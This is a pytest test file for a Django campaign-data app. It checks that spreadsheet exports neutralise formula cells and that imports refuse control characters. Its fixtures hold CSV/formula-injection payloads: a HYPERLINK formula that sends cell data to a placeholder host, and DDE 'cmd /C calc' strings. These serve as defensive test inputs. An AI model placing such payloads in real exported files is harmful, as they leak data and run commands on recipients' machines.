"""Odd cells in campaign spreadsheets: formulas stay text, control characters never break a file.

A cell imported as `=HYPERLINK(…)` would run as a formula in the Excel of whoever
downloads the table; a vertical tab (`\\x0b`) is not allowed in an XLSX file at all.
"""

import datetime
import io

import openpyxl
import pytest
from django.urls import reverse

from campaigns.models import Entry
from campaigns.tests.test_import_export import HEADER, confirm, snapshot, upload

pytestmark = pytest.mark.django_db

FORMULAS = {
    "source": '=HYPERLINK("http://xau.example/?d="&A1,"Bấm vào đây")',
    "as_printed": "+cmd|' /C calc'!A0",
    "period_label": "@SUM(1+1)*cmd|' /C calc'!A0",
    "doubt_note": "-2+3",
}


@pytest.fixture
def booby_trapped(rice, poor_day):
    """An entry whose text cells were imported (or typed) as formulas."""
    Entry.objects.create(
        indicator=rice,
        date=datetime.date(2024, 3, 1),
        quantity=5,
        doubtful=True,
        **FORMULAS,
    )
    return poor_day


@pytest.fixture
def control_characters(rice, poor_day):
    """Old data saved before imports refused control characters."""
    Entry.objects.create(
        indicator=rice,
        date=datetime.date(2024, 3, 1),
        quantity=5,
        source="Báo cáo\x0b khu phố 1",
        doubt_note="Dòng một\x01\ndòng hai",
        doubtful=True,
    )
    return poor_day


def public_export(client, campaign, file_format):
    response = client.get(reverse("campaigns:export", args=[campaign.slug, file_format]))
    assert response.status_code == 200
    return response.content


def admin_export(admin_client, file_format):
    url = reverse("admin:campaigns_entry_export")
    form = admin_client.get(url).context["form"]
    data = {"format": {"xlsx": "0", "csv": "1"}[file_format], "resource": "0"}
    data.update({name: "on" for name in form.fields if name not in [*data, "export_items"]})
    response = admin_client.post(url, data)
    assert response.status_code == 200
    return response.content


def csv_rows(content):
    import csv

    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"))))


def xlsx_cells(content):
    """Each data row as {header: cell}, cells keeping their type (formula, string, number)."""
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    rows = list(sheet.iter_rows())
    header = [cell.value for cell in rows[0]]
    return [dict(zip(header, row, strict=True)) for row in rows[1:]]


COLUMN = {"source": "Nguồn", "as_printed": "Như bản gốc", "period_label": "Tên kỳ"}
COLUMN["doubt_note"] = "Lý do nghi vấn"


def exported(client, admin_client, where, campaign, file_format):
    if where == "public":
        return public_export(client, campaign, file_format)
    return admin_export(admin_client, file_format)


@pytest.mark.parametrize("where", ["public", "admin"])
def test_csv_export_escapes_formula_cells_with_a_quote(client, admin_client, booby_trapped, where):
    (row,) = csv_rows(exported(client, admin_client, where, booby_trapped, "csv"))

    for name, formula in FORMULAS.items():
        assert row[COLUMN[name]] == "'" + formula
    assert row["Số lượng"] == "5"  # numbers are not escaped


@pytest.mark.parametrize("where", ["public", "admin"])
def test_xlsx_export_holds_formula_cells_as_text(client, admin_client, booby_trapped, where):
    (row,) = xlsx_cells(exported(client, admin_client, where, booby_trapped, "xlsx"))

    for name, formula in FORMULAS.items():
        cell = row[COLUMN[name]]
        assert cell.data_type == "s", f"{name} was written as a formula"
        assert cell.value == "'" + formula
    assert row["Số lượng"].value == 5
    assert row["Số lượng"].data_type == "n"


def test_summary_export_escapes_formula_names_and_keeps_numbers(client, rice, poor_day):
    rice.name = "=1+2"
    rice.save()
    Entry.objects.create(indicator=rice, date=datetime.date(2024, 3, 1), quantity=5)

    response = client.get(reverse("campaigns:summary", args=[poor_day.slug, "xlsx"]))

    rows = xlsx_cells(response.content)
    assert {row["Chỉ tiêu"].value for row in rows} == {"'=1+2"}
    assert all(row["Chỉ tiêu"].data_type == "s" for row in rows)
    total = next(row for row in rows if row["Kỳ / khu dân cư"].value == "Cộng")
    assert total["Kết quả"].value == 5


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_an_escaped_export_imports_back_unchanged(admin_client, booby_trapped, file_format):
    before = snapshot()
    content = public_export(admin_client, booby_trapped, file_format)

    preview = upload(admin_client, content, file_format)
    assert preview.context["result"].totals["skip"] == 1
    confirm(admin_client, preview)

    assert snapshot() == before


@pytest.mark.parametrize("where", ["public", "admin"])
def test_xlsx_export_of_old_data_with_control_characters_still_downloads(
    client, admin_client, control_characters, where
):
    (row,) = xlsx_cells(exported(client, admin_client, where, control_characters, "xlsx"))

    assert row["Nguồn"].value == "Báo cáo\ufffd khu phố 1"
    assert row["Lý do nghi vấn"].value == "Dòng một\ufffd\ndòng hai"


@pytest.mark.parametrize(
    ("column", "value", "named"),
    [
        ("Nguồn", "Báo cáo\x0bkhu phố", "nguồn không hợp lệ: có ký tự điều khiển (U+000B)"),
        ("Như bản gốc", "21.090\x00kg", "như bản gốc không hợp lệ: có ký tự điều khiển (U+0000)"),
        # A tab in a one-line field is a stray paste.
        ("Tên kỳ", "Năm\t2024", "tên kỳ không hợp lệ: có ký tự điều khiển (U+0009)"),
        ("Tên kỳ", "Năm 2024\x85", "tên kỳ không hợp lệ: có ký tự điều khiển (U+0085)"),
        ("Lý do nghi vấn", "Hỏi\x1b[31m", "lý do nghi vấn không hợp lệ: có ký tự điều khiển"),
    ],
)
def test_import_refuses_control_characters_and_names_the_line(
    admin_client, rice, poor_day, column, value, named
):
    header = f"{HEADER},{column}"
    row = f",{poor_day.name},{rice.name},01/03/2024,,100,,,{value}"

    page = upload(admin_client, f"{header}\n{row}\n".encode()).content.decode()

    assert f"Dòng 2: {named}" in page
    assert Entry.objects.count() == 0


def test_import_keeps_line_breaks_and_tabs_in_the_doubt_note(admin_client, rice, poor_day):
    header = f"{HEADER},Cần xác minh,Lý do nghi vấn"
    note = "Chưa rõ:\n\tkhu phố 1\n\tkhu phố 2"
    row = f',{poor_day.name},{rice.name},01/03/2024,,100,,,Có,"{note}"'

    confirm(admin_client, upload(admin_client, f"{header}\n{row}\n"))

    assert Entry.objects.get().doubt_note == note
